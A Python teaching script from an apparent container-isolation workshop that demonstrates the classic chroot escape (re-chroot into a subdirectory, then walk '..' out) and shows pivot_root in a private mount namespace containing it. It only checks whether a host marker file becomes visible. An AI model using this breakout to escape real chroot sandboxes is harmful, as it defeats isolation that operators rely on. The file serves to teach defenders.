"""The classic chroot breakout, performed by a root process inside the "container".
    .venv/bin/python workshop/02-chroot/breakout.py chroot [ROOTFS]       # level 02: escapes
    .venv/bin/python workshop/02-chroot/breakout.py pivot_root [ROOTFS]   # level 04: contained

chroot(2) changes where "/" resolves for path lookups and nothing else: the working directory
stays where it was. A root process chroots again into a subdirectory, so its working directory
is now *outside* its root, and ".." from there is never stopped by the root: it walks up to
the real /. The busybox rootfs has no program for this, so this Python process plays the
attacker after it entered the rootfs (its code is already loaded).
"""
import os
import sys

from minicontainer.kernel import syscalls

sys.stdout.reconfigure(line_buffering=True)
MODE = sys.argv[1] if len(sys.argv) > 1 else "chroot"
ROOTFS = os.path.abspath(sys.argv[2] if len(sys.argv) > 2 else "rootfs")
MARKER = os.path.abspath(__file__)  # a host file that is not in the rootfs


def enter_chroot():
    os.chroot(ROOTFS)
    os.chdir("/")


def enter_pivot_root():
    """Level 04's way in: a private mount namespace, the rootfs as its root mount, the old
    root detached: the host's / is no longer anywhere in this namespace."""
    syscalls.unshare(syscalls.CLONE_NEWNS)
    syscalls.mount(None, "/", None, syscalls.MS_REC | syscalls.MS_PRIVATE)
    syscalls.mount(ROOTFS, ROOTFS, None, syscalls.MS_BIND | syscalls.MS_REC)
    os.chdir(ROOTFS)
    syscalls.pivot_root(".", ".")          # the old root is stacked under the new one...
    syscalls.umount2(".", syscalls.MNT_DETACH)  # ...and detached
    os.chdir("/")


def attack():
    print(f"before: host file visible: {os.path.exists(MARKER)}")
    os.chroot("tmp")                # root is now /tmp; the working directory stays at /
    for _ in range(64):
        os.chdir("..")              # nothing stops ".." outside the root...
    os.chroot(".")                  # ...and wherever it stopped becomes the root
    if os.path.exists(MARKER):
        print("after:  host file visible: True: escaped to the host's /")
    else:
        print("after:  host file visible: False: '..' stopped at the container's own /")


pid = syscalls.fork()
if pid == 0:
    code = 1
    try:
        (enter_pivot_root if MODE == "pivot_root" else enter_chroot)()
        attack()
        code = 0
    finally:
        os._exit(code)
os.waitpid(pid, 0)
